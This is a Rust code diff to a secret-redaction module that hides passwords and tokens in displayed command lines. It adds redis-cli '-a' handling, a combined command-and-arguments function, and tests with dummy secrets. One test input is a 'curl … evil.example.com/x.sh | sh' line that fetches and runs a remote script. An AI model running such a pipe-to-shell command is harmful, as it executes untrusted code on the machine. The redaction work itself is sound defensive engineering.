@@ -23,7 +23,7 @@ pub fn printable(text: &str, limit: usize) -> String {
     }
     match rest.count() {
         0 => {}
-        left => shown.push_str(&format!("… ({left} more characters)")),
+        left => shown = format!("{shown}… ({left} more characters)"),
     }
     shown
 }
@@ -41,12 +41,15 @@ fn is_harmless(character: char) -> bool {
 /// telling names, passwords in URLs, tokens of known shape, private keys, and long runs of random-looking characters. Of the
 /// latter a short hash is shown, so that two findings can still be compared.
 pub fn arguments(entries: &[String], limit: usize) -> Vec<String> {
+    // What `-a` means depends on the program, and for others its value is worth seeing.
+    let is_redis = entries.iter().any(|entry| entry.rsplit('/').next() == Some("redis-cli"));
+    let tells = |entry: &String| TELLING_OPTION.is_match(entry) || is_redis && entry == "-a";
     let mut after_telling_option = false;
     let mut after_login = false;
     entries
         .iter()
         .map(|entry| {
-            let hidden = std::mem::replace(&mut after_telling_option, TELLING_OPTION.is_match(entry));
+            let hidden = std::mem::replace(&mut after_telling_option, tells(entry));
             let login = std::mem::replace(&mut after_login, LOGIN_OPTION.is_match(entry));
             if hidden && !entry.starts_with('-') || login && entry.contains(':') {
                 REDACTED.to_owned()
@@ -59,7 +62,15 @@ pub fn arguments(entries: &[String], limit: usize) -> Vec<String> {
         .collect()
 }
 
-/// Whether an entry looks like the `-pSECRET` of MySQL: not a path, a port or an address, and not an option that is a word,
+/// Shows the command and the arguments of a container, each as [`arguments`] does. They are one command line to whoever runs
+/// it: an option at the end of the one may have its value at the beginning of the other.
+pub fn command_line(command: &[String], args: &[String], limit: usize) -> (Vec<String>, Vec<String>) {
+    let mut shown = arguments(&[command, args].concat(), limit);
+    let args = shown.split_off(command.len());
+    (shown, args)
+}
+
+/// Whether an entry looks like the `-pSECRET` of `mysql`: not a path, a port or an address, and not an option that is a word,
 /// such as `-print` or `-parallel=4`.
 fn is_attached_password(entry: &str) -> bool {
     let Some(rest) = entry.strip_prefix("-p").filter(|rest| !rest.is_empty()) else { return false };
@@ -162,11 +173,19 @@ mod tests {
             vec!["curl", "--proxy-user=admin:hunter2-S3cr3t", "https://x"],
             vec!["curl", "-uadmin:hunter2-S3cr3t", "https://x"],
             vec!["--config", "client_secret: hunter2-S3cr3t"],
+            vec!["/usr/bin/redis-cli", "-a", "hunter2-S3cr3t", "ping"],
         ] {
             let text = shown(&entries);
             assert!(!text.contains(secret), "shown: {text}");
             assert!(text.contains(REDACTED), "nothing redacted: {text}");
         }
+    }
+
+    #[test]
+    fn command_and_arguments_are_one_line() {
+        let texts = |entries: &[&str]| entries.iter().map(|e| (*e).to_owned()).collect::<Vec<_>>();
+        let (command, args) = command_line(&texts(&["tool", "--password"]), &texts(&["hunter2", "--all"]), 100);
+        assert_eq!((command, args), (texts(&["tool", "--password"]), texts(&[REDACTED, "--all"])));
     }
 
     #[test]
@@ -188,6 +207,7 @@ mod tests {
         for entries in [
             vec!["/usr/bin/pgdump", "--all", "--file=/backup/2024-01-01.sql"],
             vec!["sh", "-c", "curl -s http://evil.example.com/x.sh | sh"],
+            vec!["ls", "-a", "/backup"],
             vec!["tool", "-print", "-p5432", "-p8080:80", "-path=/a", "-p/etc/x", "--user", "postgres"],
             vec!["kubectl", "rollout", "restart", "deployment/my-very-long-deployment-name-for-something"],
             vec!["registry.example.com/a@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"],
